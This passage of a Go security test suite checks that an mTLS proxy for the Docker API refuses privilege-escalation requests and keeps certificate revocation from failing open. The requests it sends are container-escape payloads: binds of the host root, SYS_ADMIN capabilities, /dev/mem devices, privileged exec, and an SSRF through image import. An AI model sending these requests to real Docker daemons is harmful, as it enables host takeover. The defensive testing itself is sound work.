		{"attack10-capabilities", "HostConfig.Capabilities (API 1.40's full set)", `{"Capabilities":["CAP_SYS_ADMIN","CAP_SYS_MODULE"]}`},
		{"attack10-dotdot", "Binds /srv/ci/../..:/host", `{"Binds":["/srv/ci/../..:/host"]}`},
		{"attack10-second", "a second Binds entry of /", `{"Binds":["/srv/ci:/work","/:/host"]}`},
		{"attack10-mountbind", "Mounts bind of /srv/ci/.. ", `{"Mounts":[{"Type":"bind","Source":"/srv/ci/..","Target":"/host"}]}`},
		{"attack10-mountcase", `Mounts "type":"BIND" of /`, `{"Mounts":[{"type":"BIND","source":"/","target":"/host"}]}`},
	}
	for _, c := range creates {
		t.Logf("ci: POST /containers/create with %s", c.why)
		r, err := e.create(e.ci, "/containers/create", c.name, `{"Image":"tiny","Cmd":["sleep"],"HostConfig":`+c.hc+`}`)
		wantRefused(t, c.name, r, err, "ci")
		e.noDangerousContainer(t, c.name, "/host"+sentinelPath)
	}

	t.Log("ci: POST /containers/attack10-own/update with Devices and DeviceCgroupRules")
	r, err = e.ci.json("POST", "/containers/attack10-own/update", `{"Devices":[{"PathOnHost":"/dev/mem","PathInContainer":"/dev/mem","CgroupPermissions":"rwm"}],"DeviceCgroupRules":["c *:* rwm"]}`)
	wantRefused(t, "update with Devices", r, err, "ci")
	if c := inspectCtr(t, e.ctx, e.h, "attack10-own"); c != nil && len(c.HostConfig.Devices) > 0 {
		t.Errorf("  dockerd HOLDS %s", c.summary())
	}

	t.Log("ci: exec into attack10-ops (ops' container with the host's PID namespace and /)")
	js := `{"Cmd":["/tiny","read","/host` + sentinelPath + `"],"AttachStdout":true}`
	r, err = e.ci.json("POST", "/containers/attack10-ops/exec", js)
	if !wantRefused(t, "exec into another user's host-mounting container", r, err, "ci") && err == nil && r.Status == http.StatusCreated {
		if err := e.execAs(e.ci, "attack10-ops", "/tiny", "read", "/host"+sentinelPath); err == nil {
			t.Errorf("  HOST FILE READ: ci's exec in attack10-ops read the host's %s (exit 0)", sentinelPath)
		}
	}
	t.Log("ci: GET /containers/attack10-ops/archive?path=/host" + sentinelPath + " (docker cp out of ops' container, through its bind of /)")
	r, err = e.ci.json("GET", "/containers/attack10-ops/archive?path=/host"+sentinelPath, "")
	if !wantRefused(t, "archive of another user's host-mounting container", r, err, "ci") && err == nil && strings.Contains(r.Body, e.sentinel) {
		t.Errorf("  HOST FILE READ: ci's GET archive of attack10-ops returned the host's %s", sentinelPath)
	}
	for _, body := range []string{`{"Cmd":["/tiny","echo"],"Privileged":true}`, `{"Cmd":["/tiny","echo"],"privileged":true}`, `{"Cmd":["/tiny","echo"],"Privileged":false,"Privileged":true}`} {
		t.Logf("ci: exec %s in its own container", body)
		r, err := e.ci.json("POST", "/containers/attack10-own/exec", body)
		wantRefused(t, "privileged exec "+body, r, err, "ci")
	}

	t.Log("ci: POST /build?networkmode=host")
	bctx := tarOf(t, map[string]string{"Dockerfile": "FROM tiny\nLABEL attack=10\n"})
	r, err = e.ci.do(apiReq{method: "POST", target: "/build?networkmode=host&t=attack10-build&rm=1", header: []string{"Content-Type: application/x-tar"}, body: bctx})
	wantRefused(t, "build networkmode=host", r, err, "ci")
	if _, err := hostDocker(e.ctx, e.h, "image", "inspect", "attack10-build"); err == nil {
		t.Error("  dockerd HOLDS IMAGE attack10-build, built with networkmode=host")
	}

	t.Log("ci: POST /images/create?fromSrc=http://127.0.0.1:2376/ (dockerd fetches what the client names)")
	r, err = e.ci.json("POST", "/images/create?fromSrc=http%3A%2F%2F127.0.0.1%3A9%2Fx&repo=attack10-ssrf", "")
	wantRefused(t, "images/create fromSrc=URL", r, err, "ci")

	for _, drv := range []string{"macvlan", "ipvlan"} {
		name := "attack10-" + drv
		t.Logf("ci: POST /networks/create driver %s", drv)
		r, err := e.ci.json("POST", "/networks/create", `{"Name":"`+name+`","Driver":"`+drv+`","CheckDuplicate":true}`)
		wantRefused(t, "network "+drv, r, err, "ci")
		if out, err := hostDocker(e.ctx, e.h, "network", "ls", "-q", "--filter", "name=^"+name+"$"); err == nil && strings.TrimSpace(out) != "" {
			t.Errorf("  dockerd HOLDS NETWORK %s (%s)", name, strings.TrimSpace(out))
		}
	}

	// Findings that are logged, not asserted: whether a guard must refuse
	// them is a decision of the policy model.
	soft := []struct{ name, why, hc string }{
		{"attack10-runtime", "Runtime other than the default", `{"Runtime":"io.containerd.runtime.v1.linux"}`},
		{"attack10-propagation", "Binds /srv/ci with rshared propagation", `{"Binds":["/srv/ci:/work:rshared"]}`},
	}
	for _, c := range soft {
		r, err := e.create(e.ci, "/containers/create", c.name, `{"Image":"tiny","Cmd":["sleep"],"HostConfig":`+c.hc+`}`)
		t.Logf("FINDING (not asserted): ci creates with %s: %v %s", c.why, err, r)
	}
	r, err = e.ci.do(apiReq{method: "POST", target: "/session", header: []string{"Upgrade: h2c", "Connection: Upgrade", "X-Docker-Expose-Session-Uuid: attack10"}})
	t.Logf("FINDING (not asserted): ci opens BuildKit's hijacked POST /session: %v %s", err, r)
}

// 8. An upload aborted mid-body: the proxy closes both sides within its
// body idle timeout, records it, and the client's connection cap is free.
func (e *attackEnv) abortedUpload(t *testing.T) {
	const announced, sent = 10 << 20, 1 << 20
	const bound = 45 * time.Second // the default body idle timeout (30 s), plus slack
	for _, n := range []string{"attack8-stall", "attack8-drop"} {
		r, err := e.create(e.ci, "/containers/create", n, `{"Image":"tiny","Cmd":["sleep"]}`)
		if err != nil || r.Status != http.StatusCreated {
			t.Fatalf("ci's innocent create of %s: %v %s", n, err, r)
		}
		if r, err := e.ci.json("POST", "/containers/"+n+"/start", ""); err != nil || r.Status != http.StatusNoContent {
			t.Fatalf("ci's start of %s: %v %s", n, err, r)
		}
	}
	body := partialTar(t, announced, sent)
	upload := func(name string) (*tls.Conn, error) {
		c, err := e.ci.dial()
		if err != nil {
			return nil, err
		}
		_ = c.SetWriteDeadline(time.Now().Add(20 * time.Second))
		hdr := fmt.Sprintf("PUT /containers/%s/archive?path=/ HTTP/1.1\r\nHost: docker\r\nContent-Type: application/x-tar\r\nContent-Length: %d\r\n\r\n", name, announced)
		if _, err := io.WriteString(c, hdr); err != nil {
			c.Close()
			return nil, err
		}
		if _, err := c.Write(body); err != nil {
			c.Close()
			return nil, err
		}
		return c, nil
	}
	t.Logf("ci: PUT /containers/attack8-stall/archive?path=/, Content-Length %d, sends %d bytes, then stalls", announced, sent)
	stall, err := upload("attack8-stall")
	if err != nil {
		t.Fatal(err)
	}
	defer stall.Close()
	t.Logf("ci: PUT /containers/attack8-drop/archive, sends %d bytes, then disconnects", sent)
	drop, err := upload("attack8-drop")
	if err != nil {
		t.Fatal(err)
	}
	drop.Close()

	start := time.Now()
	_ = stall.SetReadDeadline(start.Add(bound))
	got, rerr := io.ReadAll(stall)
	waited := time.Since(start)
	var ne net.Error
	if errors.As(rerr, &ne) && ne.Timeout() {
		t.Errorf("  STALLED UPLOAD HELD: the proxy did not close the stalled upload within %v (read %q)", bound, got)
	} else {
		t.Logf("  the proxy closed the stalled upload after %v (%v): %q", waited.Round(100*time.Millisecond), rerr, firstLine(got))
	}

	// The cap: MaxConnsPerClient (64) fresh connections at once, while the
	// stalled one is still open on this side.
	const maxConns = 64
	var wg sync.WaitGroup
	statuses := make([]string, maxConns)
	conns := make([]*tls.Conn, maxConns)
	for i := range maxConns {
		wg.Go(func() {
			c, err := e.ci.dial()
			if err != nil {
				statuses[i] = err.Error()
				return
			}
			conns[i] = c
			_ = c.SetDeadline(time.Now().Add(20 * time.Second))
			if _, err := io.WriteString(c, "GET /_ping HTTP/1.1\r\nHost: docker\r\n\r\n"); err != nil {
				statuses[i] = err.Error()
				return
			}
			resp, err := http.ReadResponse(bufio.NewReader(c), nil)
			if err != nil {
				statuses[i] = err.Error()
				return
			}
			resp.Body.Close()
			statuses[i] = resp.Status
		})
	}
	wg.Wait()
	ok := 0
	var bad []string
	for _, s := range statuses {
		if s == "200 OK" {
			ok++
		} else {
			bad = append(bad, s)
		}
	}
	for _, c := range conns {
		if c != nil {
			c.Close()
		}
	}
	if ok != maxConns {
		t.Errorf("  CONNECTION CAP USED UP: %d of %d fresh connections got /_ping; others: %q", ok, maxConns, bad)
	} else {
		t.Logf("  %d fresh connections at once all got /_ping", maxConns)
	}

	// The audit trail has a record for each aborted request.
	audit := e.auditLines(t)
	for _, n := range []string{"attack8-stall", "attack8-drop"} {
		found := ""
		for _, l := range audit {
			if strings.Contains(l, "/containers/"+n+"/archive") && strings.Contains(l, "PUT") {
				found = l
			}
		}
		if found == "" {
			t.Errorf("  NO AUDIT RECORD for the aborted PUT /containers/%s/archive", n)
		} else {
			t.Logf("  audit: %s", found)
		}
	}

	// dockerd does not hold the containers.
	for _, n := range []string{"attack8-stall", "attack8-drop"} {
		rctx, cancel := context.WithTimeout(e.ctx, 15*time.Second)
		start := time.Now()
		_, err := hostDocker(rctx, e.h, "rm", "-f", n)
		cancel()
		if err != nil {
			t.Errorf("  DOCKERD HOLDS %s: docker rm -f after %v: %v", n, time.Since(start).Round(100*time.Millisecond), err)
		} else {
			t.Logf("  docker rm -f %s took %v", n, time.Since(start).Round(10*time.Millisecond))
		}
	}
}

func firstLine(b []byte) string {
	s, _, _ := strings.Cut(string(b), "\n")
	return strings.TrimSpace(s)
}

// auditLines are tlsdock.service's journal lines and, if the proxy writes
// its per-request records to a file of their own, that file's lines.
func (e *attackEnv) auditLines(t *testing.T) []string {
	t.Helper()
	out, _, err := e.h.Exec(e.ctx, nil, "journalctl", "--no-pager", "-o", "cat", "-u", "tlsdock.service")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(string(out), "\n")
	if files, _, err := e.h.Exec(e.ctx, nil, "sh", "-c", "find /var/log/tlsdock* /var/lib/tlsdock -type f 2>/dev/null | xargs -r cat"); err == nil {
		lines = append(lines, strings.Split(string(files), "\n")...)
	}
	return lines
}

// 9. Revocation never fails open: a corrupt, an older and a deleted CRL,
// with SIGHUP and restarts, never let a revoked client back in.
func (e *attackEnv) revocation(t *testing.T) {
	const crl = "/etc/tlsdock/ca/crl.pem"
	var victims []*apiClient
	for _, n := range []string{"victim1", "victim2"} {
		mustTlsdock(t, e.ctx, e.h, "certs", "client", n, "--out", "/root/"+n)
		v := newAPIClient(t, e.h, n, fetchBundle(t, e.h, "/root/"+n))
		if err := pingAs(v); err != nil {
			t.Fatalf("%s before any revoke: %v", n, err)
		}
		victims = append(victims, v)
	}
	waitRefused := func(v *apiClient) {
		t.Helper()
		for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(50 * time.Millisecond) {
			if pingAs(v) != nil {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("%s still gets in 5 s after its revoke", v.name)
			}
		}
	}
	// stillRefused checks for 2 s that no victim gets in, and that the
	// proxy serves: a refusal because nothing listens proves nothing.
	stillRefused := func(step string) {
		t.Helper()
		for deadline := time.Now().Add(2 * time.Second); time.Now().Before(deadline); time.Sleep(200 * time.Millisecond) {
			for _, v := range victims {
				if err := pingAs(v); err == nil {
					t.Errorf("  FAILS OPEN after %s: revoked %s gets /_ping", step, v.name)
					return
				}
			}
		}
		if err := pingAs(e.ops); err != nil {
			t.Errorf("  after %s the proxy does not serve ops: %v", step, err)
			return
		}
		t.Logf("  after %s: both revoked clients refused, ops served", step)
	}
	restart := func() {
		t.Helper()
		start := time.Now()
		run(t, e.ctx, e.h, "systemctl", "restart", "tlsdock.service")
		t.Logf("  systemctl restart tlsdock.service took %v", time.Since(start).Round(10*time.Millisecond))
		for deadline := time.Now().Add(30 * time.Second); pingAs(e.ops) != nil; time.Sleep(100 * time.Millisecond) {
			if time.Now().After(deadline) {
				t.Errorf("  tlsdock.service does not serve 30 s after a restart:\n%s", e.h.Journal(e.ctx, "tlsdock.service", 20))
				return
			}
		}
	}

	t.Log("revoke victim1 (CRL 1), keep a copy of CRL 1, revoke victim2 (CRL 2)")
	mustTlsdock(t, e.ctx, e.h, "certs", "revoke", "victim1")
	waitRefused(victims[0])
	crl1, err := e.h.ReadFile(crl)
	if err != nil {
		t.Fatalf("the local CRL: %v", err)
	}
	mustTlsdock(t, e.ctx, e.h, "certs", "revoke", "victim2")
	waitRefused(victims[1])
	crl2, err := e.h.ReadFile(crl)
	if err != nil {
		t.Fatalf("the local CRL: %v", err)
	}
	stillRefused("both revokes")

	t.Log("put the older CRL 1 back (victim2 is not on it)")
	if err := e.h.WriteFile(crl, crl1, 0o444); err != nil {
		t.Fatal(err)
	}
	time.Sleep(time.Second) // the watcher's debounce
	stillRefused("the older CRL replaced the newer")
	run(t, e.ctx, e.h, "systemctl", "kill", "-s", "HUP", "tlsdock.service")
	stillRefused("the older CRL and SIGHUP")
	t.Log("put the newest CRL 2 back")
	if err := e.h.WriteFile(crl, crl2, 0o444); err != nil {
		t.Fatal(err)
	}
	run(t, e.ctx, e.h, "systemctl", "kill", "-s", "HUP", "tlsdock.service")
	waitRefused(victims[0])
	waitRefused(victims[1])

	t.Log("corrupt the CRL file")
	if err := e.h.WriteFile(crl, []byte("-----BEGIN X509 CRL-----\nnot a crl\n-----END X509 CRL-----\n"), 0o444); err != nil {
		t.Fatal(err)
	}
	time.Sleep(time.Second)
	stillRefused("a corrupt CRL")
	run(t, e.ctx, e.h, "systemctl", "kill", "-s", "HUP", "tlsdock.service")
	stillRefused("a corrupt CRL and SIGHUP")
	restart()
	stillRefused("a corrupt CRL and a restart")

	t.Log("delete the CRL file")
	run(t, e.ctx, e.h, "rm", "-f", crl)
	time.Sleep(time.Second)
	stillRefused("deleting the CRL")
	run(t, e.ctx, e.h, "systemctl", "kill", "-s", "HUP", "tlsdock.service")
	stillRefused("deleting the CRL and SIGHUP")
	restart()
	stillRefused("deleting the CRL and a restart")
	if out, _, code := tlsdock(e.ctx, e.h, "status"); code == 0 {
		t.Logf("tlsdock status:\n%s", out)
	}
}

// pingAs does GET /_ping as a and wants 200 OK.
func pingAs(a *apiClient) error {
	r, err := a.json("GET", "/_ping", "")
	if err != nil {
		return err
	}
	if r.Status != http.StatusOK || r.Body != "OK" {
		return fmt.Errorf("GET /_ping as %s: %s", a.name, r)
	}
	return nil
}
